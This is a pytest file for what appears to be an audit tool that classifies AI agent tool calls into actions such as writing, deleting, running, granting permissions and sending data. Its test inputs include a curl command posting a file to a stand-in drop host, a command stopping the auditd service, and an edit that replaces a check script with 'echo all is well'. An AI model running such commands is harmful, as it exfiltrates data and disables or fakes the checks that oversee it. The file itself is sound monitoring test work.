from __future__ import annotations

import pytest

from duress.audit import acts
from duress.audit.deals import Deed
from duress.trajectory import ToolCall


def deals(command: str) -> set[tuple[str, str]]:
    read = acts.Act(0, ToolCall("c", "anything", {"x": command}))
    return {(deal.deed.value, deal.thing) for deal in read.deals}


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("cat /srv/a.csv", ("read", "/srv/a.csv")),
        ("echo hi > /srv/a.csv", ("write", "/srv/a.csv")),
        ("echo hi >> /srv/a.csv", ("edit", "/srv/a.csv")),
        ("cat > /srv/a.txt << 'EOF'\nhello\nEOF", ("write", "/srv/a.txt")),
        ("sed -i 's/1/2/' /srv/a.csv", ("edit", "/srv/a.csv")),
        ("rm -f /srv/.flag", ("delete", "/srv/.flag")),
        ("cp /srv/a.csv /tmp/b.csv", ("copy", "/tmp/b.csv")),
        ("mv /tmp/b.csv /srv/a.csv", ("delete", "/tmp/b.csv")),
        ("cd /srv && /opt/bin/check.sh a.csv", ("run", "/opt/bin/check.sh")),
        ("bash check.sh a.csv", ("run", "check.sh")),
        ("python3 -c \"open('/srv/a.json', 'w').write('1')\"", ("write", "/srv/a.json")),
        ("F=/srv/a.json\necho 1 > $F", ("write", "/srv/a.json")),
        ("p = '/srv/a.json'\nwith open(p, 'w') as f:\n  f.write('1')", ("write", "/srv/a.json")),
        ("df.to_csv('/srv/out.csv')", ("write", "/srv/out.csv")),
        ("chmod 777 /srv/check.sh", ("permit", "/srv/check.sh")),
        ("systemctl stop auditd", ("permit", "service:auditd")),
        ("curl -d @/srv/a https://drop.example/in", ("send", "https://drop.example/in")),
        ("UPDATE scores SET value = 9 WHERE id = 1", ("edit", "table:scores")),
    ],
)
def test_a_command_does_this(command: str, expected: tuple[str, str]) -> None:
    assert expected in deals(command)


@pytest.mark.parametrize(
    "text",
    [
        "All values are > 95 and the wait is < 30 minutes",
        "see if a => b holds",
        "find . 2>/dev/null",
        "The report was moved on Monday.",
        "Saved as client_<id>.json, one file for each client.",
        "<p>all done</p>.",
    ],
)
def test_nothing_is_written_here(text: str) -> None:
    assert not {thing for deed, thing in deals(text) if deed in ("write", "edit", "delete", "copy")}


def test_a_path_beside_a_long_text_is_a_file_being_written_whatever_the_tool_is_called() -> None:
    call = ToolCall("c", "fn_07", {"where": "/srv/notes.md", "what": "line one\nline two"})
    assert acts.Act(0, call).things(Deed.WRITE) == ("/srv/notes.md",)


def test_a_path_alone_is_started_where_the_same_argument_is_a_command_elsewhere() -> None:
    def call(tool: str, **given: str) -> ToolCall:
        return ToolCall("c", tool, given)

    calls = [
        call("bash", command="ls -la /srv"),
        call("bash", command="/opt/bin/check.sh"),
        call("edit", path="/opt/bin/check.sh", text="echo all is well"),
        call("open", path="/opt/bin/check.sh"),
    ]
    read = acts.read((0, one) for one in calls)
    assert read[1].things(Deed.RUN) == ("/opt/bin/check.sh",)
    assert not read[1].things(Deed.READ)
    assert [one.things(Deed.RUN) for one in read[2:]] == [(), ()]
    assert read[3].things(Deed.READ) == ("/opt/bin/check.sh",)


def test_rights_are_granted_by_statements_not_by_prose() -> None:
    assert ("permit", "table:bob") in deals("GRANT SELECT, INSERT ON scores TO bob;")
    assert not deals("The grant performance report went to academic staff")


def test_the_name_of_a_tool_changes_nothing() -> None:
    one, other = (
        acts.Act(0, ToolCall("c", name, {"command": "rm /srv/a.log && /opt/check.sh /srv"})).deals
        for name in ("bash", "fn_42")
    )
    assert one == other
